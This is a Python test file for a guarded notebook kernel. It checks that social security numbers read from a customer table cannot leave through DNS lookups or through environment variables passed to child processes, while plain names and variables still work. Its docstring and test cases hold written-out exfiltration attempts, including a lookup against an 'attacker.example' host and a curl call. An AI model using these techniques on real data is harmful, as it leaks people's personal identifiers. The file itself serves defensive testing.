"""Two channels that carry data without a body: the names a cell looks up (every label goes to
DNS servers outside: ``gethostbyname(ssn + '.attacker.example')``), and the environment a child
process inherits (``os.environ['X'] = ssns`` then ``!curl "...?d=$X"``). Both are refused when
they hold values read from a sensitive column; plain names and variables work."""
from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.kernelutil import Kernel, guarded_kernel

pytestmark = pytest.mark.kernel


@pytest.fixture(scope="module")
def k(work_root: Path) -> Iterator[Kernel]:
    d = work_root / "dns_env"
    d.mkdir()
    with guarded_kernel(d, warehouse=30, connect=True) as kernel:
        kernel.ok("import os, socket, subprocess\n"
                  "df = con.sql('SELECT * FROM customers ORDER BY id').df()\n"
                  "vals = ','.join(df.ssn.tolist()[:5])")
        yield kernel


@pytest.mark.parametrize("code", [
    "socket.getaddrinfo(df.ssn[5] + '.example.org', 80)",
    "socket.gethostbyname(df.ssn[6] + '.example.org')",
    "socket.gethostbyname_ex('x.' + df.ssn[7] + '.example.org')",
    "socket.create_connection((df.ssn[8] + '.example.org', 80), timeout=1)",
    "import urllib.request\nurllib.request.urlopen('http://' + df.ssn[9] + '.example.org/')",
])
def test_a_name_holding_a_sensitive_value_is_not_looked_up(k: Kernel, code: str) -> None:
    k.blocked(code, "exfiltration")


def test_plain_names_are_looked_up(k: Kernel) -> None:
    r = k.ok("print(socket.gethostbyname('localhost'), len(socket.getaddrinfo('localhost', 80)) "
             "> 0)")
    assert "127.0.0.1 True" in r.text


@pytest.mark.parametrize(("code", "out"), [
    ("os.environ['LEAK1'] = vals\nsubprocess.run(['sh', '-c', 'echo $LEAK1 > env1.txt'])",
     "env1.txt"),
    ("subprocess.run('echo $LEAK2 > env2.txt', shell=True, env={'LEAK2': df.ssn[3]})",
     "env2.txt"),
    ("os.environ['LEAK3'] = df.ssn[4]\nos.system('echo $LEAK3 > env3.txt')", "env3.txt"),
    ("os.putenv('LEAK4', vals)\nos.environ['LEAK4'] = vals\n"
     "get_ipython().system('echo $LEAK4 > env4.txt')", "env4.txt"),
])
def test_a_child_never_inherits_sensitive_values(k: Kernel, work_root: Path, code: str,
                                                 out: str) -> None:
    k.blocked(code, "exfiltration")
    target = work_root / "dns_env" / out
    assert not target.exists() or "1000000" not in target.read_text()
    k.ok("for v in ('LEAK1', 'LEAK3', 'LEAK4'): os.environ.pop(v, None)")


def test_a_child_inherits_plain_variables(k: Kernel, work_root: Path) -> None:
    k.ok("os.environ['REGION'] = 'eu-west'\n"
         "subprocess.run(['sh', '-c', 'echo $REGION > env_ok.txt'], check=True)")
    assert (work_root / "dns_env" / "env_ok.txt").read_text().strip() == "eu-west"
